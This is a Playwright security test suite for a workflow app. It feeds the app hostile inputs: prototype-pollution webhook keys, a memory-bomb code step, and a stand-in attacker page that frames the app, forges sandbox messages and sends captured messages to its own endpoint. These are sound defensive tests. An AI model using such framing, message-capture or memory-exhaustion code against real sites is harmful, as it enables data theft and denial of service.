import { expect, test } from '@playwright/test';
import { startLocalServer, type LocalServer } from '../support/localServer';
import {
  activateAndRun,
  activateCurrent,
  countRecords,
  createCompany,
  importJson,
  manualWorkflow,
  openApp,
  storedRows,
  storedRun,
  waitForServiceWorker,
} from './helpers';

const code = (id: string, name: string, body: string, next: string[] = []) => ({
  id,
  name,
  type: 'CODE',
  nextStepIds: next,
  settings: { input: { code: body, timeoutMs: 3000 } },
});

test('a code result shaped like the engine’s stored-value marker is data: the run completes and shows it', async ({
  page,
}) => {
  await openApp(page);
  await importJson(
    page,
    manualWorkflow('Forged marker', [
      code('c', 'Forge', 'export const main = async () => ({ $runValue: "not-mine" });', ['w']),
      createCompany('w', 'After the marker'),
    ]),
  );
  await activateAndRun(page);
  await expect(page.getByTestId('run-status')).toHaveText('Completed');
  const step = page.getByRole('listitem', { name: 'Forge: SUCCESS' });
  await step.getByText('Input and output').click();
  await expect(step.getByLabel('Output')).toContainText('"$runValue": "not-mine"');
  expect(await countRecords(page, 'company', { field: 'name', equals: 'After the marker' })).toBe(1);
});

test('results that cannot be kept fail their step with the reason, and the run page still renders', async ({
  page,
}) => {
  await openApp(page);
  const cases = [
    ['Cycle', 'export const main = async () => { const a = {}; a.self = a; return a; };', 'cannot be kept as JSON'],
    ['BigInt', 'export const main = async () => ({ n: 10n });', 'cannot be kept as JSON'],
    // Code can post messages of its own from the sandbox's worker: a structured clone with a cycle and a BigInt.
    [
      'Posted',
      'export const main = async () => { const a = { n: 1n }; a.a = a; self.postMessage({ ok: true, value: a, logs: [] }); await new Promise(() => {}); };',
      'unexpected form',
    ],
    ['Huge', 'export const main = async () => "x".repeat(12_000_000);', 'too large to keep'],
    ['Closer', 'export const main = async () => { self.close(); return 1; };', 'cannot close its sandbox'],
  ] as const;
  for (const [name, body, reason] of cases) {
    await importJson(page, manualWorkflow(name, [code('c', name, body)]));
    await activateAndRun(page);
    await expect(page.getByTestId('run-status')).toHaveText('Failed');
    await expect(page.getByRole('alert')).toContainText(reason);
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  }
});

test('a run holding values JSON cannot write (cycles, BigInt, a 5 MB string) still renders, cut with "Show more"', async ({
  page,
}) => {
  // Writing and reading back a 5 MB value takes a while when the other worker is busy too.
  test.setTimeout(90_000);
  await openApp(page);
  await importJson(page, manualWorkflow('Odd values', [createCompany('w', 'Odd values company')]));
  await activateAndRun(page);
  await expect(page.getByTestId('run-status')).toHaveText('Completed');
  const runId = page.url().split('/').pop()!;
  // As an older version or a damaged database might hold them: IndexedDB itself stores all of these.
  await page.evaluate(async (runId) => {
    const db = await new Promise<IDBDatabase>((resolve) => {
      const r = indexedDB.open('localflow');
      r.onsuccess = () => resolve(r.result);
    });
    const store = db.transaction('runs', 'readwrite').objectStore('runs');
    type Stored = {
      state: { stepInfos: Record<string, { output: unknown }> };
      triggerPayload: unknown;
      packed?: string;
    };
    const run = await new Promise<Stored>((resolve) => {
      const r = store.get(runId);
      r.onsuccess = () => resolve(r.result);
    });
    // Written as rows were before runs were packed as JSON text (JSON cannot hold these).
    if (run.packed) Object.assign(run, JSON.parse(run.packed));
    delete run.packed;
    const odd: Record<string, unknown> = { big: 10n, text: 'y'.repeat(5_000_000) };
    odd.self = odd;
    run.state.stepInfos.w.output = odd;
    store.put(run);
    await new Promise((resolve) => {
      store.transaction.oncomplete = resolve;
    });
    db.close();
  }, runId);
  await page.reload();
  const step = page.getByRole('listitem', { name: 'Create w: SUCCESS' });
  await step.getByText('Input and output').click();
  const output = step.getByLabel('Output');
  await expect(output).toContainText('"big": "10n"');
  await expect(output).toContainText('more characters');
  await step.getByRole('button', { name: 'Show more' }).click();
  await expect(output).toContainText('more characters');
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
});

test('webhook keys constructor, __proto__ and toString give 202 and their values arrive; a 1.2 MB multipart field gets 413; a replayed key starts no second run', async ({
  page,
}) => {
  await openApp(page);
  await waitForServiceWorker(page);
  await importJson(page, {
    format: 'localflow.workflow',
    version: 1,
    name: 'Hostile hook',
    trigger: {
      type: 'WEBHOOK',
      name: 'Webhook',
      settings: { httpMethod: 'POST', expectedBody: {} },
      nextStepIds: ['c'],
    },
    steps: [createCompany('c', '{{trigger.body.constructor}} {{trigger.body.toString}} {{trigger.query.__proto__}}')],
  });
  await page.getByRole('button', { name: 'Activate', exact: true }).click();
  await expect(page.locator('h1 .badge')).toHaveText('Active');
  const url = (await page.locator('code', { hasText: '/hooks/' }).textContent())!;
  const answers = await page.evaluate(async (url) => {
    const form = await fetch(`${url}&__proto__=proto`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'idempotency-key': 'once-1' },
      body: 'constructor=built&toString=text',
    });
    const replay = await fetch(`${url}&__proto__=proto`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', 'idempotency-key': 'once-1' },
      body: 'constructor=built&toString=text',
    });
    const big = new FormData();
    big.set('field', 'x'.repeat(1_200_000));
    const multipart = await fetch(url, { method: 'POST', body: big });
    return {
      form: form.status,
      first: (await form.json()).runId,
      replay: await replay.json(),
      multipart: multipart.status,
      reason: (await multipart.json()).error,
    };
  }, url);
  expect(answers).toMatchObject({ form: 202, multipart: 413, replay: { runId: answers.first, replayed: true } });
  expect(answers.reason).toContain('larger than 1 MB');
  await expect.poll(() => countRecords(page, 'company', { field: 'name', equals: 'built text proto' })).toBe(1);
  expect((await storedRows(page, 'runs')).length).toBe(1);
});

test.describe('framing', () => {
  let attacker: LocalServer;
  const seen: string[] = [];
  test.beforeAll(async () => {
    attacker = await startLocalServer(
      (req, res) => {
        if (req.method === 'POST') {
          seen.push(req.body);
          return void res.writeHead(204).end();
        }
        const app = new URL(req.url ?? '/', 'http://x').searchParams.get('app') ?? '';
        // Frames the app if asked to; as a replacement for the app's sandbox frame, reports every
        // message it gets and keeps posting forged code results to its parent.
        res.writeHead(200, { 'content-type': 'text/html' })
          .end(`<!doctype html><body>${app ? `<iframe src="${app}" width="800" height="600"></iframe>` : ''}<script>
        const report = (data) => fetch(location.origin + '/seen', { method: 'POST', body: JSON.stringify(data) }).catch(() => {});
        addEventListener('message', (e) => report({ data: String(JSON.stringify(e.data)), ports: e.ports.length }));
        setInterval(() => parent.postMessage({ id: 'any', ok: true, value: { forged: true }, valueJson: '{"forged":true}', logs: [] }, '*'), 20);
      </script></body>`);
      },
      { cors: { headers: 'content-type' } },
    );
  });
  test.afterAll(() => attacker.close());

  test('another site that frames Localflow gets nothing: the app is not shown in its frame, with or without the service worker', async ({
    page,
    baseURL,
  }) => {
    for (const round of ['fresh', 'service worker installed']) {
      if (round !== 'fresh') {
        await openApp(page);
        await waitForServiceWorker(page);
      }
      await page.goto(`${attacker.base}/?app=${encodeURIComponent(`${baseURL}/objects/person`)}`);
      await page.waitForTimeout(1500);
      const framed = page.frames().filter((f) => f !== page.mainFrame());
      expect(framed.length).toBeGreaterThan(0);
      for (const frame of framed) {
        const shown = await frame.evaluate(() => !!document.querySelector('.shell')).catch(() => false);
        expect(shown, `${round}: the app rendered inside ${frame.url()}`).toBe(false);
      }
    }
  });

  test('a sandbox frame navigated to another document receives no code and forges no result', async ({ page }) => {
    await openApp(page);
    await importJson(
      page,
      manualWorkflow('Genuine', [
        code('c', 'Genuine result', 'export const main = async (p) => ({ genuine: true, secret: "s3cret-param" });'),
      ]),
    );
    await activateAndRun(page);
    await expect(page.getByTestId('run-status')).toHaveText('Completed');
    // As a framing page would: the app's sandbox frame is navigated to a foreign document.
    await page.evaluate((url) => {
      (document.querySelector('iframe[title="Code sandbox"]') as HTMLIFrameElement).contentWindow!.location.href = url;
    }, `${attacker.base}/`);
    await expect
      .poll(() => page.evaluate(() => document.querySelectorAll('iframe[title="Code sandbox"]').length))
      .toBe(0);
    seen.length = 0;
    for (let i = 0; i < 2; i++) {
      await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Workflows' }).click();
      await page.getByRole('link', { name: 'Genuine' }).click();
      await page.getByRole('button', { name: '▶ Run' }).click();
      await expect(page.getByTestId('run-status')).toHaveText('Completed');
      const step = page.getByRole('listitem', { name: 'Genuine result: SUCCESS' });
      await step.getByText('Input and output').click();
      await expect(step.getByLabel('Output')).toContainText('"genuine": true');
      await expect(step.getByLabel('Output')).not.toContainText('forged');
    }
    expect(seen.filter((s) => s.includes('s3cret') || s.includes('main'))).toEqual([]);
  });
});

test('a secret echoed back by an endpoint or put in a URL appears nowhere in the run page or the stored run', async ({
  page,
}) => {
  const echo = await startLocalServer(
    (req, res) => {
      res
        .writeHead(req.url?.startsWith('/fail') ? 500 : 200, { 'content-type': 'application/json' })
        .end(JSON.stringify({ url: req.url, auth: req.headers.authorization, body: req.body }));
    },
    { cors: { headers: 'content-type, authorization, idempotency-key' } },
  );
  try {
    const secret = 'sk-live-e2e-4242';
    await openApp(page, '/settings');
    const secrets = page.getByRole('region', { name: 'Secrets' });
    await secrets.getByLabel('Name').click();
    await page.keyboard.type('API_KEY');
    await page.keyboard.press('Tab');
    await page.keyboard.type(secret);
    await secrets.getByRole('button', { name: /Add/ }).click();
    await expect(secrets.getByText('{{secrets.API_KEY}}')).toBeVisible();
    const continueOnFailure = { retryOnFailure: { value: false }, continueOnFailure: { value: true } };
    await importJson(
      page,
      manualWorkflow('Secret echo', [
        {
          id: 'echo',
          name: 'Echo',
          type: 'HTTP_REQUEST',
          nextStepIds: ['fail'],
          settings: {
            input: {
              method: 'POST',
              url: `${echo.base}/echo?key={{secrets.API_KEY}}`,
              headers: { authorization: 'Bearer {{secrets.API_KEY}}' },
              bodyType: 'json',
              body: { token: '{{secrets.API_KEY}}' },
            },
          },
        },
        {
          id: 'fail',
          name: 'Fail',
          type: 'HTTP_REQUEST',
          nextStepIds: [],
          settings: {
            input: { method: 'GET', url: `${echo.base}/fail?key={{secrets.API_KEY}}` },
            errorHandlingOptions: continueOnFailure,
          },
        },
      ]),
    );
    await activateAndRun(page);
    await expect(page.getByTestId('run-status')).toHaveText('Completed');
    await page.getByRole('listitem', { name: 'Echo: SUCCESS' }).getByText('Input and output').click();
    await expect(page.getByRole('listitem', { name: 'Fail: FAILED_SAFELY' })).toContainText('500');
    await expect(page.getByRole('listitem', { name: 'Echo: SUCCESS' }).getByLabel('Output')).toContainText(
      'Bearer ••••',
    );
    expect(await page.locator('main').innerText()).not.toContain(secret);
    const runId = page.url().split('/').pop()!;
    expect(JSON.stringify(await storedRows(page, 'runs', runId))).not.toContain(secret);
  } finally {
    await echo.close();
  }
});

test('a code step spinning until its timeout does not hold up an unrelated run', async ({ page }) => {
  await openApp(page);
  await importJson(
    page,
    manualWorkflow('Spinner', [
      {
        ...code('spin', 'Spin', 'export const main = async () => { for (;;) {} };'),
        settings: { input: { code: 'export const main = async () => { for (;;) {} };', timeoutMs: 8000 } },
      },
    ]),
  );
  // Activation is done when the page says so (importing the next one reloads the page).
  await activateCurrent(page);
  await importJson(page, manualWorkflow('Quick one', [createCompany('q', 'Quick while spinning')]));
  await activateCurrent(page);
  // Moving around inside the app (no reload: the tab's engine keeps running).
  const open = async (name: string) => {
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Workflows' }).click();
    await page.getByRole('link', { name }).click();
    await page.getByRole('button', { name: '▶ Run' }).click();
    await expect(page).toHaveURL(/\/runs\//);
  };
  await open('Spinner');
  await expect(page.getByTestId('run-status')).toHaveText('Running');
  const spinRun = page.url();
  const started = Date.now();
  await open('Quick one');
  await expect(page.getByTestId('run-status')).toHaveText('Completed');
  // Done while the spinner still spins (its timeout is 8 s; the old engine waited for it).
  expect(Date.now() - started).toBeLessThan(5000);
  expect((await storedRun(page, spinRun.split('/').pop()!)).status).toBe('running');
  expect(await countRecords(page, 'company', { field: 'name', equals: 'Quick while spinning' })).toBe(1);
  await page.goto(spinRun);
  await expect(page.getByTestId('run-status')).toHaveText('Failed', { timeout: 30_000 });
});

test('a code step that uses up memory fails alone with the reason; other runs go on and the app opens normally afterwards', async ({
  page: leader,
  context,
}) => {
  test.setTimeout(90_000);
  // The leader tab's engine runs the code in its sandbox frame, which Chromium keeps in a process
  // of its own. Playwright reports the whole page as crashed when any of its frames' processes
  // dies, so the leader is watched through a CDP session of its own and the steps are driven
  // from a second tab.
  await openApp(leader);
  const leaderCdp = await context.newCDPSession(leader);
  const page = await context.newPage();
  let crashed = false;
  page.on('crash', () => {
    crashed = true;
  });
  await openApp(page, '/objects/person', 'standby');
  const bomb = 'export const main = async () => { const a = []; for (;;) a.push(new Array(1e6).fill(0.5)); };';
  await importJson(
    page,
    manualWorkflow('Memory bomb', [
      { ...code('m', 'Bomb', bomb), settings: { input: { code: bomb, timeoutMs: 30_000 } } },
    ]),
  );
  await activateAndRun(page);
  const bombRun = page.url();
  await expect(page.getByTestId('run-status')).toHaveText('Failed', { timeout: 30_000 });
  await expect(page.getByRole('alert')).toContainText('used too much memory');
  expect((await storedRun(page, bombRun.split('/').pop()!)).state.stepInfos.m.attempt ?? 1).toBe(1);
  // The leader tab is alive and still runs code, in a fresh sandbox.
  const leaderView = await leaderCdp.send('Runtime.evaluate', {
    expression: 'document.querySelector("nav[aria-label=Main]") !== null',
    returnByValue: true,
  });
  expect(leaderView.result.value).toBe(true);
  await importJson(
    page,
    manualWorkflow('After the bomb', [
      code('c', 'Fine', 'export const main = async () => ({ ok: 41 + 1 });', ['w']),
      createCompany('w', 'After the bomb {{c.ok}}'),
    ]),
  );
  await activateAndRun(page);
  await expect(page.getByTestId('run-status')).toHaveText('Completed');
  expect(await countRecords(page, 'company', { field: 'name', equals: 'After the bomb 42' })).toBe(1);
  // With the leader gone, this tab leads and reopens normally; the bomb is not run again.
  await leader.close();
  await page.goto(bombRun);
  await expect(page.getByTestId('run-status')).toHaveText('Failed');
  await page.waitForTimeout(2000);
  expect(crashed).toBe(false);
  expect((await storedRun(page, bombRun.split('/').pop()!)).status).toBe('failed');
  await expect(page.getByRole('navigation', { name: 'Main' })).toBeVisible();
});
